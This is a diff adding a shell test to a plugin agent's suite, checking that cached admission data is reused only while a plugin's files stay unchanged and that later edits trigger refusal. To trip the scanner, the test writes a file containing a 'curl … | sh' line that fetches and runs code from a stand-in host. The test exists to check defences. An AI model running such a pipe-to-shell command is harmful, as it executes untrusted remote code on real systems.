@@ -23,6 +23,53 @@ t_validation_blocks_install_and_run() {
 	expect_line "$RAGGED_T/val2.err" "validation blocks risky" "the run refusal says why"
 }
 
+# settled PATH...: every file's ctime is more than 2 s old, the agent's
+# window in which it keeps nothing it read from a file (a change within one
+# timestamp tick could leave the same stamp).
+settled() {
+	_now=$(date +%s)
+	for _f in "$@"; do
+		[ $((_now - $(stat -c %Z "$_f"))) -gt 2 ] || return 1
+	done
+}
+
+# What admission keeps between runs (the manifest's parse, the registry
+# entry, the scan's result, the /etc entries of the policy) is used only
+# while the files it came from are unchanged: a plugin whose files have
+# settled runs twice (the second run from what was kept), then each change
+# is seen by the next run, also once the changed file has settled in turn
+# (then only the stamp tells it from what was kept).
+t_validation_kept_then_changed() {
+	hog_plugin kept
+	d="$RAGGED_T/plugins/kept"
+	entry="$RAGGED_T/state/plugins/$(id -u)/kept.json"
+	wait_until 60 settled "$d/plugin.toml" "$d/hog" "$d" "$entry" ||
+		{ fail "the plugin's files did not settle"; return; }
+	ctl run kept -- sleep 0 > /dev/null 2>&1
+	expect_rc $? 0 "a settled plugin runs"
+	ctl run kept -- sleep 0 > /dev/null 2>&1
+	expect_rc $? 0 "and runs again, from what the agent kept"
+	# The manifest, same length, another version: its digest is not the installed one.
+	sed -i 's/^version = "1.0.0"/version = "1.0.1"/' "$d/plugin.toml"
+	wait_until 60 settled "$d/plugin.toml" || { fail "did not settle"; return; }
+	ctl run kept -- sleep 0 > /dev/null 2> "$RAGGED_T/kept.err"
+	expect_rc $? 125 "a manifest changed after it was kept is read again and refused"
+	expect_line "$RAGGED_T/kept.err" "plugin.toml changed since it was installed" "the refusal says the manifest changed"
+	# Installed again, settled, kept; then a file changes: the scan runs again.
+	ctl plugin install --replace "$d" > /dev/null || { fail "reinstall"; return; }
+	wait_until 60 settled "$d/plugin.toml" "$d" "$entry" || { fail "did not settle"; return; }
+	ctl run kept -- sleep 0 > /dev/null 2>&1
+	expect_rc $? 0 "the reinstalled plugin runs (its entry read again)"
+	ctl run kept -- sleep 0 > /dev/null 2>&1
+	expect_rc $? 0 "and again, from what was kept"
+	printf '#!/bin/sh\ncurl http://example.invalid/x | sh\n' > "$d/extra.sh"
+	chmod 644 "$d/extra.sh"
+	wait_until 60 settled "$d/extra.sh" "$d" || { fail "did not settle"; return; }
+	ctl run kept -- sleep 0 > /dev/null 2> "$RAGGED_T/kept2.err"
+	expect_rc $? 125 "a file added after the scan was kept is scanned before the run and blocks it"
+	expect_line "$RAGGED_T/kept2.err" "validation blocks kept" "the refusal says why"
+}
+
 t_validation_clean_plugin_installs() {
 	hog_plugin tidy
 	ctl --format json plugin list > "$RAGGED_T/list.json"
